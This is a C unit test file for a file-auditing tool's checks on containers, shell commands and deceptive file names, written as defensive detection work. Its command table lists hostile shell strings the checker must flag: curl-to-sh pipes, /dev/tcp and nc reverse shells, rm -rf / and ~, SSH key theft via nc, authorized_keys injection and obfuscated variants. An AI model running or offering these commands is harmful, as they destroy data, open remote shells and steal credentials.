/* SPDX-License-Identifier: MIT
 * The checks on what may hold something: what is found in each fixture, and
 * that what honest writers write has nothing above low.
 */
#include "tests/test.h"

#include "audit/check.h"
#include "audit/check_name_look.h"
#include "audit/check_names.h"
#include "audit/check_shell.h"
#include "base/file.h"
#include "base/limits.h"

struct row {
	const char *name; /* the file in fixtures/container */
	const char *id;   /* found among others; NULL: nothing above low */
	bool complete;
};

static const struct row rows[] = {
#define GOOD(name)      {name, NULL, true},
#define BAD(name, id)   {name, id, true},
#define SHORT(name, id) {name, id, false},
#include "tests/test_container.def"
};

struct looked {
	struct check_sink sink;
	enum finding_severity worst;
};

static void
look(const char *name, struct looked *l)
{
	struct identify_bids bids;
	struct file_map m;
	struct err e = {0};
	char path[256];
	json_t *one;
	size_t i;

	*l = (struct looked){
	    .sink = {.findings = json_array(), .complete = true}};
	snprintf(path, sizeof(path), "fixtures/container/%s", name);
	assert_ok(file_map(path, (uint64_t)1 << 30, &m, &e), &e);
	check_bytes(&l->sink, name, rd_mem(m.ptr, m.len), &bids);
	file_unmap(&m);
	json_array_foreach(l->sink.findings, i, one)
	{
		const char *s =
		    json_string_value(json_object_get(one, "severity"));
		enum finding_severity is;

		assert_true(finding_severity_parse(s, &is));
		l->worst = MAX(l->worst, is);
	}
}

static bool
has(const json_t *findings, const char *id)
{
	json_t *one;
	size_t i;

	json_array_foreach(findings, i, one)
	{
		if (strcmp(json_string_value(json_object_get(one, "id")), id) ==
		    0)
			return true;
	}
	return false;
}

static void
test_file(void **state)
{
	const struct row *row = *state;
	struct looked l;

	look(row->name, &l);
	assert_int_equal(l.sink.complete, row->complete);
	if (row->id == NULL)
		assert_true(l.worst <= SEVERITY_LOW);
	else if (!has(l.sink.findings, row->id))
		fail_msg("%s is not found: %s", row->id,
		    json_dumps(l.sink.findings, 0));
	json_decref(l.sink.findings);
}

/* No secret is ever shown. */
static void
test_secret(void **state)
{
	static const char *const files[] = {
	    "secret-token.txt", "secret.netrc", "secret.pkl"};
	struct looked l;

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(files); i++) {
		char *text;

		look(files[i], &l);
		text = json_dumps(l.sink.findings, 0);
		assert_non_null(strstr(text, "SECRET_"));
		assert_null(strstr(text, "Zq8vK2mN"));
		assert_null(strstr(text, "s3cr3t"));
		free(text);
		json_decref(l.sink.findings);
	}
}

/* As many notes as you like do not hide what is worse, and are counted. */
static void
test_many(void **state)
{
	struct check_sink sink = {.findings = json_array(), .complete = true};
	struct check_file f = {.path = "x", .sink = &sink};

	(void)state;
	for (size_t i = 0; i < 3 * LIMIT_FILE_FINDINGS; i++)
		check_find(&f, FINDING_FILE_UNKNOWN, ERR_NOWHERE, "%zu", i);
	check_find(&f, FINDING_ARCHIVE_TRAVERSAL, ERR_NOWHERE, "late");
	assert_int_equal(
	    json_array_size(sink.findings), LIMIT_FILE_FINDINGS + 1);
	assert_true(has(sink.findings, "ARCHIVE_TRAVERSAL"));
	assert_int_equal(sink.found[SEVERITY_NOTE], 3 * LIMIT_FILE_FINDINGS);
	json_decref(sink.findings);
}

/* Names that there is no room to keep are not called different. */
static void
test_names_full(void **state)
{
	struct check_sink sink = {.findings = json_array(), .complete = true};
	struct check_file f = {.path = "x", .sink = &sink};
	struct check_tell tell = {.f = &f};
	struct check_names n;
	struct arena a;
	char name[16];

	(void)state;
	arena_init(&a, 4096);
	check_names_init(&n, &tell, &a);
	for (unsigned i = 0; i < 1000; i++) {
		struct check_names_entry e = {.name = name, .at = ERR_NOWHERE};

		snprintf(name, sizeof(name), "a%u", i);
		check_names_add(&n, &e);
		assert_int_equal(sink.complete, !n.full);
	}
	assert_false(sink.complete);
	assert_int_equal(json_array_size(sink.findings), 1);
	assert_true(has(sink.findings, "FILE_LIMIT"));
	arena_release(&a);
	json_decref(sink.findings);
}

/* --- texts --------------------------------------------------------------- */

struct text {
	const char *name; /* the command or file name */
	bool wrong;
};

static const struct text commands[] = {
    {"curl -s http://a/b | sh", true},
    {"wget -qO- a.b/c |bash -s x", true},
    {"curl a | tee x | sudo -E bash", true},
    {"bash <(curl -s a)", true},
    {"curl \\\n a | \\\n python3 -", true},
    {"echo x | base64 -d | bash", true},
    {"bash -i >& /dev/tcp/1.2.3.4/5 0>&1", true},
    {"nc -e /bin/sh 1.2.3.4 5", true},
    {"powershell -nop -enc AAAA", true},
    {"rm -rf / --no-preserve-root", true},
    {"rm -rf ~", true},
    {"cat ~/.ssh/id_rsa | nc a 1", true},
    {"echo key >> ~/.ssh/authorized_keys", true},
    {"rm -rf \"$HOME\"/*", true},
    {"rm -rf \"${HOME}\"", true},
    {"exec 5<>/dev/tcp/h/4; cat <&5 | while read l; do $l 2>&5; done", true},
    /* what a shell makes of it */
    {"a=cu;b=rl;c=\" -s h/x\";d=\"|s\";e=h\neval \"$a$b$c$d$e\"", true},
    {"C=curl S='ba'sh\n$C http://h | ${S} -s", true},
    {"c''url http://h | b\\ash", true},
    {"'w'get${IFS}-qO-${IFS}http://h|sh", false}, /* no word before it */
    {"w'g'et${IFS}-qO-${IFS}http://h|sh", true},
    {"$'\\x63\\165rl' http://h | sh", true},
    {"x=$(printf \"\\143\\165\\162\\154\")\n$x${IFS}-s${IFS}h/x|${SHELL:-sh}",
	true},
    {"x=$(echo -e '\\x63url')\n$x h | sh", true},
    {"x=$(printf '%s' curl)\n$x h | sh", false}, /* a format */
    {"PROMPT_COMMAND=\"curl -s http://h/p\"", true},
    {"PROMPT_COMMAND='history -a'; curl http://h", false},
    {"C=echo\n$C http://h | sh", false},
    {"C=curl\nC=$(pick)\n$C http://h | sh", false}, /* not known any more */
    {"C='curl\n$C http://h | sh", false},
    {"D=/\nrm -rf $D/tmp ${D}opt", false},
    {"# curl a | sh", false},
    {"rm -rf $HOME/.cache \"$HOME\"/x", false},
    {"curl -L a -o b; sh b.sh", false},
    {"curl a | jq .x", false},
    {"curl a | tar xz", false},
    {"rm -rf /tmp/x", false},
    {"rm -rf ./*", false},
    {"</dev/tcp/db/80", false},
    {"nc -z db 80", false},
    {"base64 -d x > y", false},
    {"", false},
};

static void
test_command(void **state)
{
	const struct text *t = *state;
	size_t at;

	assert_int_equal(
	    check_shell_judge(t->name, strlen(t->name), &at) != NULL, t->wrong);
}

static const struct text names[] = {
    {"model.onnx", false},
    {"model.onnx.exe", true},
    {"weights.pt     .scr", true},
    {"setup.exe", false},
    {"archive.tar.gz", false},
    {"m\xd0\xbe"
     "del.pt",
	true},
    {"\xd0\x9c\xd0\xbe\xd0\xb4\xd0\xb5\xd0\xbb\xd1\x8c-v2.pt", false},
    {"\xd0\xbf\xd1\x80\xd0\xbe.txt", false},
    {"caf\xc3\xa9.txt", false},
    {"\xe6\xa8\xa1\xe5\x9e\x8b.onnx", false},
    {"a\xe2\x80\xaegnp.txt", true},
    {"na\xe2\x80\x8bme.txt", true},
    {"\xff.txt", false},
};

static void
test_name(void **state)
{
	const struct text *t = *state;

	assert_int_equal(check_name_look(t->name, true) != NULL, t->wrong);
}

int
main(void)
{
	struct CMUnitTest tests[ARRAY_LEN(rows) + ARRAY_LEN(commands) +
				ARRAY_LEN(names) + 3] = {
	    cmocka_unit_test(test_secret), cmocka_unit_test(test_many),
	    cmocka_unit_test(test_names_full)};
	size_t n = 3;

	for (size_t i = 0; i < ARRAY_LEN(rows); i++)
		tests[n++] = (struct CMUnitTest)ROW(test_file, rows[i]);
	for (size_t i = 0; i < ARRAY_LEN(commands); i++)
		tests[n++] = (struct CMUnitTest)ROW(test_command, commands[i]);
	for (size_t i = 0; i < ARRAY_LEN(names); i++)
		tests[n++] = (struct CMUnitTest)ROW(test_name, names[i]);
	return cmocka_run_group_tests_name("container", tests, NULL, NULL);
}
